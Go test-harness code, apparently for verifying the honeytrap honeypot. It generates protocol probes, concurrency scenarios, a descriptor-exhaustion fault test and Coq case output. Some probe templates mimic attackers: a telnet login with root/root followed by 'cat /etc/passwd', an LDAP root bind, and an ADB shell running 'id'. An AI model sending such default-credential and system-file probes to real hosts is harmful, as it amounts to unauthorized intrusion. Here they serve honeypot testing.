		return [][][]byte{one(bs("USER anonymous\r\nPASS anonymous\r\nSYST\r\nFEAT\r\nPWD\r\nTYPE I\r\nPASV\r\nQUIT\r\n")), one(bs("USER anonymous\r\nPASS anonymous\r\nCWD /\r\nMKD d\r\nSIZE a\r\nMDTM a\r\nSTAT\r\nHELP\r\nQUIT\r\n"))}
	case "smtp":
		return [][][]byte{one(bs("EHLO lab\r\nMAIL FROM:<a@lab>\r\nRCPT TO:<b@lab>\r\nDATA\r\nSubject: hi\r\n\r\nbody\r\n.\r\nQUIT\r\n")), one(bs("HELO lab\r\nHELP\r\nNOOP\r\nRSET\r\nQUIT\r\n"))}
	case "telnet":
		return [][][]byte{one(bs("root\r\nroot\r\nls\r\ncat /etc/passwd\r\nexit\r\n"))}
	case "ldap":
		t := func(id byte, parts ...[]byte) []byte {
			c := cat(parts...)
			return berTLV([]byte{id}, uint64(len(c)), 0, c)
		}
		msg := func(id byte, op []byte) []byte { return t(0x30, t(0x02, []byte{id}), op) }
		bind := msg(1, t(0x60, t(0x02, []byte{3}), t(0x04, nil), t(0x80, nil)))
		bindRoot := msg(1, t(0x60, t(0x02, []byte{3}), t(0x04, bs("root")), t(0x80, bs("root"))))
		dse := msg(2, t(0x63, t(0x04, nil), t(0x0a, []byte{0}), t(0x0a, []byte{0}), t(0x02, []byte{0}), t(0x02, []byte{0}), t(0x01, []byte{0}), t(0x87, bs("objectclass")), t(0x30)))
		uid := msg(3, t(0x63, t(0x04, bs("dc=x")), t(0x0a, []byte{2}), t(0x0a, []byte{0}), t(0x02, []byte{0}), t(0x02, []byte{0}), t(0x01, []byte{0}), t(0xa3, t(0x04, bs("uid")), t(0x04, bs("a"))), t(0x30)))
		unbind := msg(4, t(0x42))
		return [][][]byte{one(bind, dse, unbind), one(bindRoot, uid, unbind), one(dse), one(bind, uid)}
	case "adb":
		return [][][]byte{one(adbPkt("CNXN", 0x01000000, 4096, bs("host::\x00")), adbPkt("OPEN", 7, 0, bs("shell:\x00")), adbPkt("WRTE", 7, 9, bs("id\r")), adbPkt("CLSE", 7, 9, nil))}
	case "vnc":
		return [][][]byte{one(bs("RFB 003.008\n"), []byte{1}, []byte{1}, vncGood, []byte{2, 0, 0, 1, 0, 0, 0, 0}, vncUpdReq(0), vncUpdReq(1), []byte{5, 1, 0, 3, 0, 4})}
	case "ssh-auth":
		return [][][]byte{one(bs("SSH-2.0-OpenSSH_7.4\r\n"))}
	case "counterstrike":
		return [][][]byte{one(cat([]byte{0xff, 0xff, 0xff, 0xff, 0x54}, bs("Source Engine Query\x00")))}
	case "dns":
		return [][][]byte{one(cat([]byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 3}, bs("lab"), []byte{7}, bs("example"), []byte{0, 0, 1, 0, 1}))}
	case "snmp":
		return [][][]byte{one(snmpMsg(0xa0, -1, nil)), one(snmpMsg(0xa1, -1, nil)), one(snmpMsg(0xa3, -1, nil))}
	case "tftp":
		return [][][]byte{one(cat([]byte{0, 1}, bs("boot.bin"), []byte{0}, bs("octet"), []byte{0}))}
	case "ntp":
		p := make([]byte, 48)
		p[0] = 0x1b
		return [][][]byte{one(p)}
	case "echo":
		return [][][]byte{one(bs("hello\n"))}
	}
	return nil
}

func concScenarios(hr *hx.Rand, thorough bool) []Scenario {
	var out []Scenario
	for _, d := range svcDefs {
		tm := concTemplates(d.Name)
		if len(tm) == 0 {
			continue
		}
		k, rounds := 32, 60
		switch d.Name {
		case "vnc", "telnet", "ssh-auth", "smtp", "ftp":
			rounds = 25 // these keep a connection for a while
		}
		if thorough {
			rounds *= 5
		}
		proto := "tcp"
		if !d.TCP || isUDPOnly(d.Name) || d.Name == "dns" || d.Name == "ntp" {
			proto = "udp"
		}
		sc := Scenario{Svc: d.Name, Proto: proto, Kind: "conc", Fresh: true, Barrier: true, Rounds: rounds - 1}
		if d.Name == "vnc" {
			sc.Linger = 60
		}
		for i := 0; i < k; i++ {
			sc.Conns = append(sc.Conns, Conn{Segs: toB(tm[i%len(tm)])})
		}
		out = append(out, sc)
		if hot := hotTemplates(d.Name); len(hot) > 0 {
			h := sc
			h.Fresh = false
			h.Rounds = 4*rounds - 1 // no cap on how often a hot path can be taken: more rounds, one instance
			h.Conns = nil
			for i := 0; i < k; i++ {
				h.Conns = append(h.Conns, Conn{Segs: toB(hot[i%len(hot)])})
			}
			out = append(out, h)
		}
		copies := 2 // state kept per instance may be bounded (remember at most N names): several fresh instances
		if thorough {
			copies = 5
		}
		for c := 1; c < copies && rounds > 25; c++ {
			out = append(out, sc)
		}
	}
	// ssh-simulator: fresh user names, env/exec requests with fresh content
	ssh := Scenario{Svc: "ssh-simulator", Proto: "tcp", Kind: "conc", Fresh: true, Rounds: 5, Linger: 30}
	for i := 0; i < 8; i++ {
		ssh.Conns = append(ssh.Conns, Conn{SSH: &SSHIn{User: "u" + fresh, Reqs: []SSHReq{{Type: "env", Payload: cat(sshStr("V"), sshStr("x"))}, {Type: "exec", Payload: sshStr("id")}, {Type: "r" + fmt.Sprint(i), Payload: nil}}}})
	}
	out = append(out, ssh)
	// https: the certificate cache is filled per server name under a mutex (a 4096-bit key per new name)
	tlsSc := Scenario{Svc: "https", Proto: "tcp", Kind: "conc", Fresh: true, Linger: 50, HangMs: 30000}
	for i := 0; i < 4; i++ {
		name := "same.lab"
		if i < 2 {
			name = "h" + fresh + ".lab"
		}
		tlsSc.Conns = append(tlsSc.Conns, Conn{TLS: name, Segs: toB([][]byte{httpReq("GET", "/"+fresh, "", nil)})})
	}
	out = append(out, tlsSc)
	return out
}
