//go:build verif
// +build verif

package main

// A transient failure of accept(2) on the socket listener (descriptor exhaustion): connections
// made while it lasts and after it must still reach their service with the stream intact.
// Runs in a child process of its own, because it starves that process of descriptors.

import (
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"time"

	"verif/harness/hx"
	"verif/harness/lab"
)

type faultRes struct {
	Ins     []Input  `json:"ins"`
	Obs     []Obs    `json:"obs"`
	Crashes []string `json:"crashes"`
	Note    string   `json:"note"`
}

// acceptFaultChild is the child's main: prints one JSON object on stdout.
func acceptFaultChild(scratch string) {
	res := faultRes{}
	defer func() { json.NewEncoder(os.Stdout).Encode(res) }()
	ports := lab.FreePorts(1)
	svc := Svc{ID: 3, ReadSize: 512}
	var sb strings.Builder
	sb.WriteString("[listener]\ntype=\"socket\"\n\n")
	fmt.Fprintf(&sb, "[service.s3]\ntype=\"verif-stub\"\nname=\"s3\"\nprefix=\"\"\nreadsize=512\n\n")
	fmt.Fprintf(&sb, "[[port]]\nport=\"tcp/127.0.0.1:%d\"\nservices=[\"s3\"]\n", ports[0])
	l, err := lab.StartSocket(sb.String(), scratch, fmt.Sprintf("127.0.0.1:%d", ports[0]))
	if err != nil {
		res.Note = "setup: " + err.Error()
		return
	}
	defer l.Stop()
	time.Sleep(100 * time.Millisecond)
	_, before := l.Snapshot()
	addr := fmt.Sprintf("127.0.0.1:%d", ports[0])

	var lim syscall.Rlimit
	if err := syscall.Getrlimit(syscall.RLIMIT_NOFILE, &lim); err != nil {
		res.Note = "setup: getrlimit: " + err.Error()
		return
	}
	low := lim
	low.Cur = 256
	if low.Cur > lim.Max {
		low.Cur = lim.Max
	}
	if err := syscall.Setrlimit(syscall.RLIMIT_NOFILE, &low); err != nil {
		res.Note = "setup: setrlimit: " + err.Error()
		return
	}
	var hog []*os.File
	for {
		f, err := os.Open("/dev/null")
		if err != nil {
			break
		}
		hog = append(hog, f)
		if len(hog) > 100000 {
			res.Note = "setup: descriptor limit not effective"
			return
		}
	}
	if len(hog) < 2 {
		res.Note = "setup: no descriptors to play with"
		return
	}
	// one descriptor for the client's socket; none is left for accept(2)
	hog[len(hog)-1].Close()
	hog = hog[:len(hog)-1]
	payloadB := []byte("B-during-the-accept-failure")
	cB, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		for _, f := range hog {
			f.Close()
		}
		syscall.Setrlimit(syscall.RLIMIT_NOFILE, &lim)
		res.Note = "setup: dial during exhaustion: " + err.Error()
		return
	}
	time.Sleep(300 * time.Millisecond) // the listener's accept fails for this long
	for _, f := range hog {
		f.Close()
	}
	syscall.Setrlimit(syscall.RLIMIT_NOFILE, &lim)
	cB.Write(payloadB)
	lportB := cB.LocalAddr().(*net.TCPAddr).Port
	payloadC := []byte("C-after-the-accept-failure")
	cC, err := net.DialTimeout("tcp", addr, 5*time.Second)
	lportC := 0
	if err == nil {
		cC.Write(payloadC)
		lportC = cC.LocalAddr().(*net.TCPAddr).Port
	}
	// both must be handed to the service: wait for the two handler records (bounded)
	deadline := time.Now().Add(20 * time.Second)
	closed := false
	for time.Now().Before(deadline) {
		_, h := l.Snapshot()
		if len(h)-len(before) >= 2 {
			break
		}
		if !closed && time.Until(deadline) < 19*time.Second {
			// the stub reads until end of stream
			cB.Close()
			if cC != nil {
				cC.Close()
			}
			closed = true
		}
		time.Sleep(10 * time.Millisecond)
	}
	_, handled := l.Snapshot()
	handled = handled[len(before):]
	for _, s := range []struct {
		p     []byte
		lport int
	}{{payloadB, lportB}, {payloadC, lportC}} {
		in := Input{Proto: "tcp", Svcs: []Svc{svc}, Segs: []hx.B{s.p}}
		var ob Obs
		for _, h := range handled {
			if a, ok := h.Remote.(*net.TCPAddr); ok && a.Port == s.lport {
				ob.Handlers++
				fmt.Sscanf(h.Service, "s%d", &ob.Chosen)
				ob.Delivered = h.Bytes
			}
		}
		res.Ins = append(res.Ins, in)
		res.Obs = append(res.Obs, ob)
		res.Crashes = append(res.Crashes, "")
	}
}

// acceptFault runs the child and returns its cases (none, with a note, when the environment
// does not let the child set the scenario up).
func acceptFault(o hx.Opts) (faultRes, error) {
	var res faultRes
	cmd := exec.Command(os.Args[0], "-seed", fmt.Sprint(o.Seed), "-tier", o.Tier, "-out", o.Out)
	cmd.Env = append(os.Environ(), "VERIF_C08_CHILD=accept-fault")
	out, err := cmd.Output()
	if err != nil && len(out) == 0 {
		return res, fmt.Errorf("accept-fault child: %v", err)
	}
	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
	if jerr := json.Unmarshal([]byte(lines[len(lines)-1]), &res); jerr != nil {
		return res, fmt.Errorf("accept-fault child output: %v", jerr)
	}
	return res, nil
}
