// C08 harness: real server (lab) with stub services; which stub runs and what it reads.
package main

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"time"

	"verif/harness/hx"
	"verif/harness/lab"
)

type Svc struct {
	ID       int    `json:"id"`
	Detector bool   `json:"detector"`
	Prefix   string `json:"prefix,omitempty"`
	ReadSize int    `json:"readsize"`
}

type Input struct {
	Proto    string `json:"proto"` // tcp | udp
	Svcs     []Svc  `json:"services"`
	Segs     []hx.B `json:"segments"`
	Unlisted bool   `json:"unlisted"`           // probe a port that is not configured
	CfgIP    string `json:"cfg_ip,omitempty"`   // port entry carries this address ("" = none)
	ProbeIP  string `json:"probe_ip,omitempty"` // local address of the probe connection
	// shape of the port table around the probed port: PortsN > 0 puts it at index PortIdx of a
	// `ports = [...]` list of PortsN ports sharing the services; Before/After add entries for
	// other ports (served by an unrelated detector-less service) in front of / behind it
	PortsN  int  `json:"ports_n,omitempty"`
	PortIdx int  `json:"port_idx,omitempty"`
	Before  bool `json:"before,omitempty"`
	After   bool `json:"after,omitempty"`
	// the client pauses GapMs[i] milliseconds before segment i (below the server's 30 s read
	// timeout: the stream must still arrive whole)
	GapMs []int `json:"gap_ms,omitempty"`
}

type Obs struct {
	Chosen    int  `json:"chosen"` // 0 = none
	Delivered hx.B `json:"delivered"`
	Handlers  int  `json:"handlers"`
}

var prefixes = []string{"AA", "AB", "A", "B", "GET ", "SSH-", "\x16\x03", "AAAA"}

func mkToml(in Input) string {
	var sb strings.Builder
	sb.WriteString("[listener]\ntype=\"verif-rec\"\n\n")
	var names []string
	for _, s := range in.Svcs {
		name := fmt.Sprintf("s%d", s.ID)
		names = append(names, `"`+name+`"`)
		ty := "verif-stub"
		if s.Detector {
			ty = "verif-stub-det"
		}
		fmt.Fprintf(&sb, "[service.%s]\ntype=%q\nname=%q\nprefix=%s\nreadsize=%d\n\n", name, ty, name, hx.TomlStr(s.Prefix), s.ReadSize)
	}
	host := ""
	if in.CfgIP != "" {
		host = in.CfgIP + ":"
	}
	if in.Before || in.After {
		sb.WriteString("[service.sx]\ntype=\"verif-stub\"\nname=\"sx\"\nprefix=\"\"\nreadsize=64\n\n")
	}
	if in.Before {
		fmt.Fprintf(&sb, "[[port]]\nports=[\"%s/%s70\",\"%s/%s71\"]\nservices=[\"sx\"]\n", in.Proto, host, in.Proto, host)
	}
	if in.PortsN > 0 {
		var ps []string
		for k := 0; k < in.PortsN; k++ {
			ps = append(ps, fmt.Sprintf("\"%s/%s%d\"", in.Proto, host, 80+k))
		}
		fmt.Fprintf(&sb, "[[port]]\nports=[%s]\nservices=[%s]\n", strings.Join(ps, ","), strings.Join(names, ","))
	} else {
		fmt.Fprintf(&sb, "[[port]]\nport=\"%s/%s80\"\nservices=[%s]\n", in.Proto, host, strings.Join(names, ","))
	}
	if in.After {
		fmt.Fprintf(&sb, "[[port]]\nport=\"%s/%s95\"\nservices=[\"sx\"]\n", in.Proto, host)
	}
	return sb.String()
}

func runOne(in Input, scratch string) (Obs, string) {
	l, err := lab.Start(mkToml(in), scratch)
	if err != nil {
		hx.Fatal("lab start: %v", err)
	}
	return probeOne(l, in)
}

// probeOne runs the case's client against an already started server instance and stops it
// (server start-up touches process-wide state and is never done concurrently; probing is)
func probeOne(l *lab.Lab, in Input) (Obs, string) {
	var ob Obs
	var err error
	defer l.Stop()
	if !l.Started() {
		return ob, "server returned before starting the listener"
	}
	port := 80 + in.PortIdx
	if in.Unlisted {
		port = 99
	}
	var segs [][]byte
	for _, s := range in.Segs {
		segs = append(segs, []byte(s))
	}
	pip := "192.0.2.1"
	if in.ProbeIP != "" {
		pip = in.ProbeIP
	}
	if in.Proto == "tcp" {
		var gaps []time.Duration
		for _, g := range in.GapMs {
			gaps = append(gaps, time.Duration(g)*time.Millisecond)
		}
		err = l.ProbePaced(&net.TCPAddr{IP: net.ParseIP(pip), Port: port}, &net.TCPAddr{IP: net.ParseIP("198.51.100.7"), Port: 40000}, segs, gaps)
	} else {
		var d []byte
		for _, s := range segs {
			d = append(d, s...)
		}
		err = l.ProbeUDP(&net.UDPAddr{IP: net.ParseIP(pip), Port: port}, &net.UDPAddr{IP: net.ParseIP("198.51.100.7"), Port: 40000}, d, nil)
	}
	if err != nil {
		return ob, "probe: " + err.Error()
	}
	_, handled := l.Snapshot()
	ob.Handlers = len(handled)
	if len(handled) > 1 {
		return ob, "more than one service handled the connection"
	}
	if len(handled) == 1 {
		fmt.Sscanf(handled[0].Service, "s%d", &ob.Chosen)
		ob.Delivered = handled[0].Bytes
	}
	return ob, ""
}

// sockRun: the real "socket" listener on loopback; concurrent TCP connections and a burst
// of UDP datagrams; every connection/datagram becomes one ordinary case.
func sockRun(r *hx.Rand, scratch string, nUDP, nTCP int) ([]Input, []Obs, []string) {
	ports := lab.FreePorts(5)
	svcs := []Svc{{ID: 1, Detector: true, Prefix: "AA", ReadSize: 4096}, {ID: 2, Detector: true, Prefix: "B", ReadSize: 7}, {ID: 3, ReadSize: 512}}
	var sb strings.Builder
	sb.WriteString("[listener]\ntype=\"socket\"\n\n")
	for _, s := range svcs {
		ty := "verif-stub"
		if s.Detector {
			ty = "verif-stub-det"
		}
		fmt.Fprintf(&sb, "[service.s%d]\ntype=%q\nname=\"s%d\"\nprefix=%s\nreadsize=%d\ndelay=30\n\n", s.ID, ty, s.ID, hx.TomlStr(s.Prefix), s.ReadSize)
	}
	fmt.Fprintf(&sb, "[[port]]\nport=\"tcp/127.0.0.1:%d\"\nservices=[\"s3\"]\n", ports[0])
	fmt.Fprintf(&sb, "[[port]]\nport=\"tcp/127.0.0.1:%d\"\nservices=[\"s1\",\"s2\",\"s3\"]\n", ports[1])
	// the same port number under both protocols, with different services: each keeps its own
	fmt.Fprintf(&sb, "[[port]]\nport=\"tcp/127.0.0.1:%d\"\nservices=[\"s3\"]\n", ports[2])
	fmt.Fprintf(&sb, "[[port]]\nport=\"udp/127.0.0.1:%d\"\nservices=[\"s1\",\"s2\",\"s3\"]\n", ports[2])
	fmt.Fprintf(&sb, "[[port]]\nports=[\"udp/127.0.0.1:%d\",\"tcp/127.0.0.1:%d\"]\nservices=[\"s3\"]\n", ports[3], ports[4])
	l, err := lab.StartSocket(sb.String(), scratch, fmt.Sprintf("127.0.0.1:%d", ports[0]))
	if err != nil {
		hx.Fatal("socket lab: %v", err)
	}
	defer l.Stop()
	time.Sleep(100 * time.Millisecond) // the readiness dial itself is handled by s3
	_, before := l.Snapshot()
	type sent struct {
		in    Input
		lport int
		proto string
	}
	var all []sent
	var wg sync.WaitGroup
	var mu sync.Mutex
	pfx := []string{"AA", "B", "ZZ", "AB", "BAA"}
	for i := 0; i < nUDP; i++ {
		payload := append([]byte(pfx[r.Intn(len(pfx))]), []byte(fmt.Sprintf("-udp-%03d-", i))...)
		payload = append(payload, r.Bytes(r.PickInt([]int{0, 3, 50, 700, 1400}))...)
		// two UDP ports with different service lists: a datagram is served by ITS port's services
		uport, usvcs := ports[2], svcs
		if i%3 == 2 {
			uport, usvcs = ports[3], svcs[2:]
		}
		c, err := net.DialUDP("udp", nil, &net.UDPAddr{IP: net.ParseIP("127.0.0.1"), Port: uport})
		if err != nil {
			hx.Fatal("dial udp: %v", err)
		}
		c.Write(payload)
		all = append(all, sent{in: Input{Proto: "udp", Svcs: usvcs, Segs: []hx.B{payload}}, lport: c.LocalAddr().(*net.UDPAddr).Port, proto: "udp"})
		defer c.Close()
	}
	for i := 0; i < nTCP; i++ {
		payload := append([]byte(pfx[r.Intn(len(pfx))]), []byte(fmt.Sprintf("-tcp-%03d-", i))...)
		payload = append(payload, r.Bytes(r.PickInt([]int{0, 3, 50, 700, 2000}))...)
		wg.Add(1)
		go func(payload []byte) {
			defer wg.Done()
			// a third of the TCP connections go to the port number that is also a UDP port
			tport, tsvcs := ports[1], svcs
			if len(payload)%3 == 0 {
				tport, tsvcs = ports[2], svcs[2:]
			}
			c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", tport))
			if err != nil {
				return
			}
			c.Write(payload)
			mu.Lock()
			all = append(all, sent{in: Input{Proto: "tcp", Svcs: tsvcs, Segs: []hx.B{payload}}, lport: c.LocalAddr().(*net.TCPAddr).Port, proto: "tcp"})
			mu.Unlock()
			time.Sleep(150 * time.Millisecond)
			c.Close()
		}(payload)
	}
	wg.Wait()
	time.Sleep(400 * time.Millisecond)
	_, handled := l.Snapshot()
	handled = handled[len(before):]
	var ins []Input
	var obs []Obs
	var crashes []string
	for _, s := range all {
		var ob Obs
		crash := ""
		for _, h := range handled {
			var rp int
			switch a := h.Remote.(type) {
			case *net.UDPAddr:
				rp = a.Port
				if s.proto != "udp" {
					continue
				}
			case *net.TCPAddr:
				rp = a.Port
				if s.proto != "tcp" {
					continue
				}
			}
			if rp != s.lport {
				continue
			}
			ob.Handlers++
			fmt.Sscanf(h.Service, "s%d", &ob.Chosen)
			ob.Delivered = h.Bytes
		}
		if ob.Handlers > 1 {
			crash = "more than one handler ran for one connection"
		}
		ins = append(ins, s.in)
		obs = append(obs, ob)
		crashes = append(crashes, crash)
	}
	return ins, obs, crashes
}

func genInput(r *hx.Rand) Input {
	in := Input{Proto: "tcp"}
	if r.Chance(1, 6) {
		in.Proto = "udp"
	}
	n := r.PickInt([]int{1, 2, 2, 3, 3, 4, 4})
	for i := 1; i <= n; i++ {
		s := Svc{ID: i, ReadSize: r.PickInt([]int{1, 3, 7, 512, 1024, 4096})}
		if r.Chance(2, 3) {
			s.Detector = true
			s.Prefix = prefixes[r.Intn(len(prefixes))]
		}
		in.Svcs = append(in.Svcs, s)
	}
	// first payload: satisfies none / one / several detectors
	var first []byte
	switch r.Intn(4) {
	case 0:
		first = []byte("ZZZ-no-detector-matches")
	default:
		p := prefixes[r.Intn(len(prefixes))]
		if len(in.Svcs) > 0 && in.Svcs[r.Intn(len(in.Svcs))].Detector && r.Chance(2, 3) {
			p = in.Svcs[r.Intn(len(in.Svcs))].Prefix
			if p == "" {
				p = "AA"
			}
		}
		first = append([]byte(p), r.Bytes(r.PickInt([]int{0, 1, 5, 40}))...)
	}
	total := append([]byte(nil), first...)
	if r.Chance(1, 5) {
		total = append(total, r.Bytes(r.PickInt([]int{1000, 1024, 1500, 3000}))...)
	} else {
		total = append(total, r.Bytes(r.Range(0, 30))...)
	}
	// segmentation: first read of 1 byte .. whole payload, then a few more cuts
	if in.Proto == "udp" {
		in.Segs = []hx.B{total}
	} else {
		cut := r.PickInt([]int{1, 1, 2, len(first), len(total), r.Range(1, len(total))})
		if cut > len(total) {
			cut = len(total)
		}
		if cut < 1 {
			cut = 1
		}
		in.Segs = append(in.Segs, hx.B(total[:cut]))
		rest := total[cut:]
		for len(rest) > 0 {
			k := r.Range(1, len(rest))
			if r.Chance(1, 2) {
				k = len(rest)
			}
			in.Segs = append(in.Segs, hx.B(rest[:k]))
			rest = rest[k:]
		}
	}
	if r.Chance(1, 15) {
		in.Unlisted = true
	}
	if r.Chance(1, 2) {
		in.PortsN = r.Range(1, 4)
		in.PortIdx = r.Intn(in.PortsN)
	}
	in.Before, in.After = r.Chance(1, 3), r.Chance(1, 3)
	// ports match on the address too, when one is configured
	if r.Chance(1, 4) {
		in.CfgIP = "192.0.2.1"
		in.ProbeIP = r.PickStr([]string{"192.0.2.1", "192.0.2.1", "192.0.2.2", "198.51.100.200"})
	}
	return in
}

func coqCase(id int, in Input, ob Obs) string {
	var ss []string
	foreign := in.CfgIP != "" && in.ProbeIP != "" && in.ProbeIP != in.CfgIP
	if !in.Unlisted && !foreign {
		for _, s := range in.Svcs {
			det := "(@None bytes)"
			if s.Detector {
				det = "(Some " + hx.CoqStr(s.Prefix) + ")"
			}
			ss = append(ss, fmt.Sprintf("mkSvc %s %s", hx.CoqN(uint64(s.ID)), det))
		}
	}
	var sg []string
	for _, s := range in.Segs {
		sg = append(sg, hx.CoqBytes(s))
	}
	ch := "(@None N)"
	if ob.Chosen != 0 {
		ch = "(Some " + hx.CoqN(uint64(ob.Chosen)) + ")"
	}
	return fmt.Sprintf("mkCase %s %s %s %s %s", hx.CoqN(uint64(id)), hx.CoqList(ss, "svc"), hx.CoqList(sg, "bytes"), ch, hx.CoqBytes(ob.Delivered))
}

func main() {
	o := hx.ParseArgs()
	if os.Getenv("VERIF_C08_CHILD") == "accept-fault" {
		acceptFaultChild(o.Out)
		return
	}
	r := hx.NewRand(o.Seed)
	var ins []Input
	if o.Only != "" {
		var in Input
		if err := hx.LoadReplay(o.Only, &in); err != nil {
			panic(err)
		}
		ins = []Input{in}
	} else {
		// corpus: rejecting detector followed by a detector-less service (peeked bytes must not be lost)
		ins = append(ins,
			Input{Proto: "tcp", Svcs: []Svc{{ID: 1, Detector: true, Prefix: "AA", ReadSize: 4096}, {ID: 2, ReadSize: 4096}}, Segs: []hx.B{hx.B("BCDE"), hx.B("F")}},
			Input{Proto: "tcp", Svcs: []Svc{{ID: 1, Detector: true, Prefix: "AA", ReadSize: 3}, {ID: 2, Detector: true, Prefix: "B", ReadSize: 3}}, Segs: []hx.B{hx.B("BCDEFGH")}},
			Input{Proto: "udp", Svcs: []Svc{{ID: 1, Detector: true, Prefix: "AA", ReadSize: 7}, {ID: 2, ReadSize: 7}}, Segs: []hx.B{hx.B("BCDEFGHIJKLMNOP")}},
		)
		// a client that falls silent for a while (well below the 30 s read timeout) between its
		// segments, on a port that goes through detection and on one that does not
		paced := [][]int{{0, 6500}}
		if o.Tier != "quick" {
			paced = [][]int{{0, 6500}, {0, 12000, 100}, {7000, 0, 9000}}
		}
		for _, g := range paced {
			ins = append(ins,
				Input{Proto: "tcp", Svcs: []Svc{{ID: 1, Detector: true, Prefix: "AA", ReadSize: 4096}, {ID: 2, Detector: true, Prefix: "B", ReadSize: 16}}, Segs: []hx.B{hx.B("BCD"), hx.B("EFGHIJ"), hx.B("KL")}, GapMs: g},
				Input{Proto: "tcp", Svcs: []Svc{{ID: 1, Detector: true, Prefix: "B", ReadSize: 5}, {ID: 2, ReadSize: 16}}, Segs: []hx.B{hx.B("BCD"), hx.B("EFGHIJ"), hx.B("KL")}, GapMs: g},
				Input{Proto: "tcp", Svcs: []Svc{{ID: 1, ReadSize: 7}}, Segs: []hx.B{hx.B("BCD"), hx.B("EFGHIJ"), hx.B("KL")}, GapMs: g})
		}
		n := 300
		if o.Tier != "quick" {
			n = 3000
		}
		for i := 0; i < n; i++ {
			ins = append(ins, genInput(r))
		}
	}
	dist := map[string]int{}
	var cases []hx.Case
	// the paced cases spend their time sleeping: run them beside the sequential ones, each
	// with its own server instance and scratch directory
	type pres struct {
		ob    Obs
		crash string
	}
	pacedRes := map[int]chan pres{}
	for i, in := range ins {
		if len(in.GapMs) == 0 {
			continue
		}
		ch := make(chan pres, 1)
		pacedRes[i] = ch
		dir := filepath.Join(o.Out, fmt.Sprintf("paced-%d", i))
		os.MkdirAll(dir, 0o755)
		l, err := lab.Start(mkToml(in), dir)
		if err != nil {
			hx.Fatal("lab start: %v", err)
		}
		l.Started()
		go func(i int, in Input) {
			ob, crash := probeOne(l, in)
			ch <- pres{ob, crash}
		}(i, in)
	}
	for i, in := range ins {
		var ob Obs
		var crash string
		if ch, ok := pacedRes[i]; ok {
			r := <-ch
			ob, crash = r.ob, r.crash
			dist["paced-client"]++
		} else {
			ob, crash = runOne(in, o.Out)
		}
		dist["proto:"+in.Proto]++
		dist[fmt.Sprintf("services:%d", len(in.Svcs))]++
		dist[fmt.Sprintf("segments:%d", minInt(len(in.Segs), 5))]++
		if in.Unlisted {
			dist["unlisted-port"]++
		}
		if ob.Chosen == 0 {
			dist["no-service"]++
		}
		cases = append(cases, hx.Case{ID: i, Kind: "conn", Input: in, Obs: ob, Crash: crash, Coq: coqCase(i, in, ob)})
	}
	if o.Only == "" {
		rounds := 2
		if o.Tier != "quick" {
			rounds = 10
		}
		for k := 0; k < rounds; k++ {
			sin, sob, scr := sockRun(r, o.Out, 16, 6)
			for j := range sin {
				id := len(cases)
				dist["socket-listener:"+sin[j].Proto]++
				cases = append(cases, hx.Case{ID: id, Kind: "socket", Input: sin[j], Obs: sob[j], Crash: scr[j], Coq: coqCase(id, sin[j], sob[j])})
			}
		}
	}
	if o.Only == "" {
		fr, err := acceptFault(o)
		switch {
		case err != nil:
			// the child itself died: the listener cannot have kept serving
			id := len(cases)
			in := Input{Proto: "tcp", Svcs: []Svc{{ID: 3, ReadSize: 512}}, Segs: []hx.B{hx.B("B-during-the-accept-failure")}}
			cases = append(cases, hx.Case{ID: id, Kind: "accept-fault", Input: in, Obs: Obs{}, Crash: err.Error(), Coq: coqCase(id, in, Obs{})})
		case fr.Note != "":
			dist["accept-fault-skipped: "+fr.Note]++
		default:
			for j := range fr.Ins {
				id := len(cases)
				dist["accept-fault"]++
				cases = append(cases, hx.Case{ID: id, Kind: "accept-fault", Input: fr.Ins[j], Obs: fr.Obs[j], Crash: fr.Crashes[j], Coq: coqCase(id, fr.Ins[j], fr.Obs[j])})
			}
		}
	}
	hx.Write(o, "C08", "find", "From HT Require Import Common.Bytes C08.Model C08.Check.", "case", cases, dist, nil, 200)
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}
