package main

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime/debug"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/server"
	"github.com/honeytrap/honeytrap/services"
	_ "github.com/honeytrap/honeytrap/services/ftp"
	"github.com/honeytrap/honeytrap/storage"
	"verif/harness/hx"
	"verif/harness/lab"
)

type nullChannel struct{}

func (nullChannel) Send(e event.Event) {}

// one storage (badger) per process; the ftp service reads its file system location
// from the keys ftp.base / ftp.fs_root
func setupStorage(dbdir string, w window) {
	os.RemoveAll(dbdir)
	if err := os.MkdirAll(dbdir, 0o755); err != nil {
		hx.Fatal("mkdir: %v", err)
	}
	storage.SetDataDir(dbdir)
	st, err := storage.Namespace("ftp")
	if err != nil {
		hx.Fatal("storage: %v", err)
	}
	if err := st.Set("base", []byte(w.base)); err != nil {
		hx.Fatal("storage set: %v", err)
	}
	if err := st.Set("fs_root", []byte(rootName)); err != nil {
		hx.Fatal("storage set: %v", err)
	}
}

type FObs struct {
	Codes []int    `json:"codes"`
	Kind  string   `json:"kind,omitempty"` // text | names | num | retr (num = announced size)
	Text  hx.B     `json:"text,omitempty"`
	Names []string `json:"names,omitempty"`
	// LIST/NLST: the lines received, and what the directories inside the root held just before
	Listed []LEntry `json:"listed,omitempty"`
	Truth  []LEntry `json:"truth,omitempty"`
	Num   int64    `json:"num,omitempty"`
}

type FtpObs struct {
	Replies []FObs  `json:"replies"`
	Final   []entry `json:"final"`
	Escape  string  `json:"escape,omitempty"`
}

type client struct {
	c  net.Conn
	rd *bufio.Reader
}

// replies up to and including the fence (the reply "200 OK" of a NOOP sent right after the
// command); returns the codes before the fence and the text of the first reply
func (cl *client) untilFence() ([]int, string, error) {
	var codes []int
	first := ""
	for {
		cl.c.SetReadDeadline(time.Now().Add(10 * time.Second))
		line, err := cl.rd.ReadString('\n')
		if err != nil {
			return codes, first, err
		}
		line = strings.TrimRight(line, "\r\n")
		if line == "200 OK" {
			return codes, first, nil
		}
		if len(line) >= 4 && line[3] == ' ' {
			if n, err := strconv.Atoi(line[:3]); err == nil {
				if len(codes) == 0 {
					first = line[4:]
				}
				codes = append(codes, n)
			}
		}
